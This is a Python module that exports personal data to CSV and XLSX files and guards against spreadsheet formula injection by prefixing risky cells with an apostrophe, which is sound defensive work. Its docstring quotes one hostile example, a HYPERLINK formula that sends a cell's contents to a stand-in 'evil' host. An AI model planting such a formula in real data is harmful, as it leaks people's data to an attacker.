"""CSV and XLSX files of personal data that are safe to open in a spreadsheet program.

A cell that starts with = + - @ (or a tab or carriage return, which some programs skip before
reading a formula) is read as a formula: a signer named `=HYPERLINK("http://evil/?"&A1)` would
run in the organiser's spreadsheet (OWASP "CSV injection"). Such cells get a leading apostrophe,
which spreadsheet programs show as text and do not evaluate.
"""

import csv
import io
from collections.abc import Iterable, Sequence

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_safe(value) -> object:
    """The value, with a leading apostrophe if a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def rows_to_csv(header: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """UTF-8 with a byte-order mark so that Excel reads accents correctly."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([cell_safe(str(h)) for h in header])
    for row in rows:
        writer.writerow(["" if value is None else cell_safe(str(value)) for value in row])
    return ("\ufeff" + out.getvalue()).encode()


def rows_to_xlsx(header: Sequence[str], rows: Iterable[Sequence], *, title: str = "Export") -> bytes:
    """One sheet; every text cell is stored as a string, never as a formula."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    sheet.append([cell_safe(str(h)) for h in header])
    for row in rows:
        sheet.append([_xlsx_value(value) for value in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _xlsx_value(value):
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    if hasattr(value, "isoformat"):
        # openpyxl refuses time-zone-aware datetimes; ISO text keeps the zone visible.
        return value.isoformat()
    return cell_safe(str(value))
